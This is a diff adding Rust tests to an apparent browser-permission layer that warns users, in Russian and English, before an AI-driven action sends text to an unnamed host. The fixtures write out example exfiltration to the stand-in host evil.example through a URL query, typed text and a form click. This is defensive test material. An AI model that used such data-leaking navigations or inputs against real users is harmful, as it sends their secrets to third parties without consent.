@@ -17,6 +17,16 @@ fn russian() -> Words {
     Words::new("ru-RU")
 }
 
+/// Words that are not the user's, leaving for evil.example.
+fn leaving(carrier: Carrier) -> Leaving {
+    Leaving {
+        carrier,
+        words: "секретная фраза".into(),
+        host: "evil.example".into(),
+        origin: "https://evil.example".into(),
+    }
+}
+
 fn effect(target: Option<ElementInfo>) -> Effect {
     Effect {
         pin: Pin {
@@ -246,12 +256,13 @@ fn tabs_clients_and_closed_questions_are_russian() {
         pinned_tab(&words, "https://mail.example/new", &tab),
         second,
         on_no.unwrap(),
-        carries_words(
+        data_leaves(
             &words,
             &PageTool::Navigate {
                 url: "https://evil.example/?q=секрет".into(),
             },
             &effect(None),
+            &leaving(Carrier::Address),
         ),
         asked,
         detail,
@@ -278,6 +289,20 @@ fn tabs_clients_and_closed_questions_are_russian() {
         files: Vec::new(),
     };
     said.push(not_a_file_field(&words, &upload, &effect(Some(control("button", "Купить")))).unwrap());
+    let mut field = control("textbox", "Сообщение");
+    field.url = "https://chat.example/widget".into();
+    said.push(data_leaves(
+        &words,
+        &act(ActKind::Type, Some("секрет")),
+        &effect(Some(field)),
+        &leaving(Carrier::Typing),
+    ));
+    said.push(data_leaves(
+        &words,
+        &act(ActKind::Click, None),
+        &effect(Some(control("button", "Найти"))),
+        &leaving(Carrier::Form),
+    ));
     for text in &said {
         assert_russian(
             text,
@@ -286,6 +311,7 @@ fn tabs_clients_and_closed_questions_are_russian() {
                 "https://mail.example/inbox",
                 "mail.example",
                 "https://evil.example/?q=секрет",
+                "evil.example",
                 "/usr/bin/claude",
                 "Claude",
                 "claude",
@@ -303,10 +329,36 @@ fn tabs_clients_and_closed_questions_are_russian() {
         said[4],
         "Claude (claude) хочет пользоваться вашим браузером через Waymark. Разрешить? Да или нет."
     );
-    assert!(said
-        .last()
-        .unwrap()
-        .starts_with("Номер 7 — не поле выбора файлов"));
+    assert!(said[said.len() - 3].starts_with("Номер 7 — не поле выбора файлов"));
+    assert_eq!(
+        said[3],
+        "Открыть https://evil.example/?q=секрет? Это отправит не ваши слова («секретная фраза») на \
+         evil.example, который вы не называли. Да или нет."
+    );
+    assert_eq!(
+        said[said.len() - 2],
+        "Ввести текст в «Сообщение» (поле ввода) на сайте shop.example? Введённое здесь уходит на \
+         evil.example, который вы не называли: это не ваши слова («секретная фраза»). Да или нет."
+    );
+}
+
+#[test]
+fn data_leaving_says_what_and_where_in_english() {
+    let words = Words::english();
+    let said = data_leaves(
+        &words,
+        &act(ActKind::Click, None),
+        &effect(Some(control("button", "Search"))),
+        &Leaving {
+            words: "tangerine osprey 4471".into(),
+            ..leaving(Carrier::Form)
+        },
+    );
+    assert_eq!(
+        said,
+        "Click button 'Search' on shop.example? It would send words that are not yours ('tangerine \
+         osprey 4471') to evil.example, which you have not named. Yes or no."
+    );
 }
 
 #[test]
